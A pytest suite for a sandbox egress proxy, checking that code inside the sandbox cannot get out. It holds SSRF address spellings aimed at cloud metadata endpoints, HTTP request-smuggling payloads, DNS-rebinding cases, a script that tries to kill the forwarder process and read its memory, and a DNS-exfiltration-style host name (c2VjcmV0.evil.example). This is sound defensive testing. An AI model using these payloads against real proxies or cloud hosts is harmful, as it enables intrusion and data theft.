"""The way out, attacked from inside: what is not allowed receives nothing, not even a connection.

The attacker runs any program. The forbidden server listens on another loopback address of the host.
"""

import json
import socket
from collections.abc import AsyncIterator
from ipaddress import ip_network

import pytest
import pytest_asyncio

from orchestrator.control_plane import ControlPlane
from orchestrator.rules.egress.rule import Rule
from orchestrator.rules.egress.rules import Rules
from orchestrator.rules.egress.session_rules import Narrowing
from tests.support.box import TESTER, Box
from tests.support.egress import Names, NamesResolver, Web, hello, level_with, web
from tests.support.plane import opened

pytestmark = pytest.mark.asyncio(loop_scope="module")

NAMES = Names()
ELSEWHERE = "127.0.0.2"
# Sends raw bytes to the proxy for each given text, and prints the beginnings of the answers.
RAW = """
import json, socket, sys
said = []
for text in json.load(sys.stdin):
    with socket.create_connection(("127.0.0.1", 3128), 20) as proxy:
        proxy.settimeout(20)
        data = b""
        try:
            proxy.sendall(text.encode("latin-1"))
            proxy.shutdown(socket.SHUT_WR)
            while more := proxy.recv(65536):
                data += more
        except OSError as error:
            data += repr(error).encode()
        said.append(data.decode("latin-1")[:400])
print(json.dumps(said))
"""
# Tries to get out without the proxy, or to reach what belongs to it; prints what worked.
AROUND = """
import json, os, signal, socket, sys
port, addresses = int(sys.argv[1]), sys.argv[2:]
worked = []
def attempt(name, action):
    try:
        action()
    except OSError:
        return
    worked.append(name)
def tcp(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as direct:
        direct.settimeout(2)
        direct.connect((address, port))
def udp(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as direct:
        direct.sendto(b"canary", (address, port))
def unix(path):
    with socket.socket(socket.AF_UNIX) as direct:
        direct.connect(path)
for address in addresses:
    attempt(f"tcp {address}", lambda: tcp(socket.AF_INET, address))
    if not address.startswith("127."):
        attempt(f"udp {address}", lambda: udp(socket.AF_INET, address))
attempt("dns", lambda: socket.getaddrinfo("allowed.example", 80))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
attempt("mptcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("proxy's socket", lambda: unix("/run/paddock-egress/egress.sock"))
attempt("its directory", lambda: os.listdir("/run/paddock-egress"))
attempt("agent's socket", lambda: unix("/run/paddock/control.sock"))
for name in filter(str.isdigit, os.listdir("/proc")):
    try:
        words = open(f"/proc/{name}/status").read().split()
    except OSError:
        continue
    if words[words.index("Uid:") + 1] == "990":
        attempt("forwarder killed", lambda: os.kill(int(name), signal.SIGKILL))
        attempt("forwarder's memory", lambda: open(f"/proc/{name}/mem", "rb"))
        attempt("forwarder's files", lambda: os.listdir(f"/proc/{name}/fd"))
        attempt("forwarder's root", lambda: os.listdir(f"/proc/{name}/root/run/paddock-egress"))
print(json.dumps(worked))
"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def server() -> AsyncIterator[Web]:
    """What is allowed."""
    async with web(hello()) as served:
        yield served


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def forbidden() -> AsyncIterator[Web]:
    """What must receive nothing."""
    async with web(hello(), address=ELSEWHERE) as served:
        yield served


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def plane(
    sandbox_image: str, server: Web, forbidden: Web, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[ControlPlane]:
    NAMES.answers = {
        "allowed.example": [["127.0.0.1"]],
        "inside.example": [[ELSEWHERE]],
        "mixed.example": [["127.0.0.1", ELSEWHERE]],
        "mapped.example": [[f"::ffff:{ELSEWHERE}"]],
        "metadata.example": [["169.254.169.254"]],
    }
    directory = tmp_path_factory.mktemp("levels")
    hosts = [*NAMES.answers, "rebinding.example", "*.below.example"]
    rules = "".join(
        f'\n[[egress.allow]]\nhost = "{host}"\nports = [{server.port}, {forbidden.port}, 80]\n'
        for host in hosts
    )
    (directory / "free.toml").write_text(level_with(rules, "high", 310))
    (directory / "shut.toml").write_text(level_with("", "high", 320))
    async with opened(
        resolver=NamesResolver(NAMES), image=sandbox_image, levels_dir=directory
    ) as plane:
        yield plane


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def box(plane: ControlPlane) -> Box:
    return await Box.create(plane, "free")


async def answers(box: Box, *texts: str) -> list[str]:
    """What the proxy answers to raw bytes."""
    said = await box.run(argv=["python3", "-c", RAW], stdin=json.dumps(texts), timeout=100)
    found: list[str] = said.value
    return found


def get(url: str) -> str:
    host = url.partition("://")[2].partition("/")[0]
    return f"GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n"


def tunnel(target: str, first: str = "") -> str:
    return f"CONNECT {target} HTTP/1.1\r\n\r\n{first}"


async def test_names_that_lead_inside_are_refused(box: Box, forbidden: Web) -> None:
    names = ["inside", "mixed", "mapped", "metadata"]
    targets = [f"{name}.example:{forbidden.port}" for name in names]
    said = await answers(
        box, *(get(f"http://{each}/") for each in targets), *(tunnel(each) for each in targets)
    )
    assert all(each.startswith("HTTP/1.1 403 ") for each in said), said
    assert all("address-refused" in each for each in said)
    assert (forbidden.connections, forbidden.received) == (0, [])


async def test_a_name_that_changes_its_address_is_refused(
    box: Box, server: Web, forbidden: Web
) -> None:
    NAMES.answers["rebinding.example"] = [["127.0.0.1"], [ELSEWHERE]]
    before = len(NAMES.asked)
    url = f"http://rebinding.example:{server.port}/"
    first, second = await answers(box, get(url), get(url))
    assert first.startswith("HTTP/1.1 200 ")
    assert second.startswith("HTTP/1.1 403 ")
    # One look-up for each request: what was checked is what is connected to.
    assert NAMES.asked[before:] == ["rebinding.example"] * 2
    assert forbidden.connections == 0


async def test_addresses_are_refused_in_every_spelling(box: Box, forbidden: Web) -> None:
    number = int.from_bytes(socket.inet_aton(ELSEWHERE))
    hosts = [
        *(ELSEWHERE, "127.2", str(number), hex(number), f"0{number:o}", "0x7f.0.0.2", "0177.2"),
        *(f"[::ffff:{ELSEWHERE}]", "[::1]", "[::]", "0", "localhost", "169.254.169.254"),
        *("[fd00:ec2::254]", "metadata.google.internal", f"{ELSEWHERE}."),
    ]
    targets = [f"{host}:{forbidden.port}" for host in hosts]
    said = await answers(
        box, *(get(f"http://{each}/") for each in targets), *(tunnel(each) for each in targets)
    )
    assert all(each.startswith("HTTP/1.1 403 ") for each in said), said
    assert (forbidden.connections, forbidden.received) == (0, [])


async def test_smuggled_requests_reach_nobody(box: Box, server: Web) -> None:
    host = f"allowed.example:{server.port}"
    line, field = f"GET http://{host}/ HTTP/1.1\r\n", f"Host: {host}\r\n"
    before = len(server.received)
    said = await answers(
        box,
        f"{line}{field}Content-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        f"{line}{field}Content-Length: 0\r\nContent-Length: 9\r\n\r\n",
        f"{line}{field}X: a\r\n Transfer-Encoding: chunked\r\n\r\n",
        f"{line}{field}Transfer-Encoding : chunked\r\n\r\n",
        f"{line}{field}X: a\nHost: other.example\r\n\r\n",
        f"{line}Host: other.example\r\n\r\n",
        f"{line}{field}{field}\r\n",
        f"GET http://other.example@{host}/ HTTP/1.1\r\n{field}\r\n",
        f"GET /  HTTP/1.1\r\n{field}\r\n",
        f"{line}{field}X: \x00\r\n\r\n",
    )
    assert all(each.startswith("HTTP/1.1 400 ") for each in said), said
    assert len(server.received) == before


async def test_what_follows_a_request_is_not_passed_on(box: Box, server: Web) -> None:
    url = f"http://allowed.example:{server.port}/first"
    (said,) = await answers(box, get(url) + "GET /second HTTP/1.1\r\nHost: other.example\r\n\r\n")
    assert said.startswith("HTTP/1.1 200 ")
    assert b"second" not in b"".join(server.received)


async def test_a_tunnel_carries_only_what_is_for_its_host(box: Box, server: Web) -> None:
    target = f"allowed.example:{server.port}"
    before = b"".join(server.received)
    established = "HTTP/1.1 200 Connection established\r\n\r\n"
    # Without TLS: a request that names another host, or could be read in two ways, is told so.
    requests = [
        "GET /canary HTTP/1.1\r\nHost: other.example\r\n\r\n",
        f"GET http://{target}/canary HTTP/1.1\r\nHost: {target}\r\n\r\n",
        f"GET /canary HTTP/1.1\r\nHost: {target}\r\nHost: other.example\r\n\r\n",
        f"CONNECT {target} HTTP/1.1\r\n\r\n",
    ]
    said = await answers(box, *(tunnel(target, request) for request in requests))
    assert all(each.startswith(f"{established}HTTP/1.1 400 ") for each in said), said
    assert await answers(box, tunnel(target, "SSH-2.0-canary\r\n")) == [established]
    other = await box.run(
        argv=[
            *("curl", "-sSk", "--max-time", "20", f"https://other.example:{server.port}/"),
            *("--connect-to", f"other.example:{server.port}:{target}", "--proxytunnel"),
        ]
    )
    assert other.exit_code != 0
    assert b"".join(server.received) == before


async def test_there_is_no_other_way_out(box: Box, server: Web, forbidden: Web) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))
        own = probe.getsockname()[0]
    before = server.connections
    # The agent's own loopback has the port of the proxy only.
    said = await box.python(AROUND, str(server.port), own, "172.17.0.1", "127.0.0.1", ELSEWHERE)
    assert said.value == []
    assert (server.connections, forbidden.connections) == (before, 0)
    (alive,) = await answers(box, get(f"http://allowed.example:{server.port}/"))
    assert alive.startswith("HTTP/1.1 200 ")


async def test_another_session_s_rules_do_not_help(plane: ControlPlane, server: Web) -> None:
    shut = await Box.create(plane, "shut")
    before = server.connections
    (said,) = await answers(shut, get(f"http://allowed.example:{server.port}/"))
    assert said.startswith("HTTP/1.1 403 ")
    assert server.connections == before


async def test_what_an_admin_allows_to_a_session_opens_nothing_more(
    plane: ControlPlane, server: Web, forbidden: Web
) -> None:
    """Neither an address that no sandbox may reach, nor what is denied, nor another session."""
    NAMES.answers["wide.example"] = [["127.0.0.1"], [ELSEWHERE]]
    box, other = await Box.create(plane, "shut"), await Box.create(plane, "shut")
    allow, denied = (Rule("*.example"), Rule(network=ip_network("127.0.0.0/8"))), Rule("a.example")
    only = Narrowing(None, (denied,))
    await plane.egress.change(TESTER, box.session, only, Rules((*allow, denied)))
    url = f"http://wide.example:{server.port}/"
    before = server.connections
    first, second, inside, third = await answers(
        box,
        get(url),
        get(url),
        get(f"http://inside.example:{forbidden.port}/"),
        get(f"http://a.example:{server.port}/"),
    )
    assert first.startswith("HTTP/1.1 200 ")
    assert "Rule: address-refused" in second
    assert "Rule: address-refused" in inside
    assert "Rule: only: deny a.example" in third
    (elsewhere,) = await answers(other, get(url))
    assert "Rule: not-listed" in elsewhere
    assert (server.connections, forbidden.connections) == (before + 1, 0)


async def test_denied_requests_do_not_flood_the_record(plane: ControlPlane) -> None:
    box = await Box.create(plane, "shut")
    said = await answers(box, *(get(f"http://a{number}.example/") for number in range(600)))
    assert all(each.startswith("HTTP/1.1 403 ") for each in said)
    await box.close()
    denied = await box.events("egress.request")
    assert sum(event["args"].get("repeats", 1) for event in denied) == 600
    assert len(denied) < 300


async def test_names_are_not_looked_up_for_denied_hosts(box: Box) -> None:
    before = len(NAMES.asked)
    await answers(box, get("http://c2VjcmV0.evil.example/"), tunnel("c2VjcmV0.evil.example:443"))
    assert NAMES.asked[before:] == []
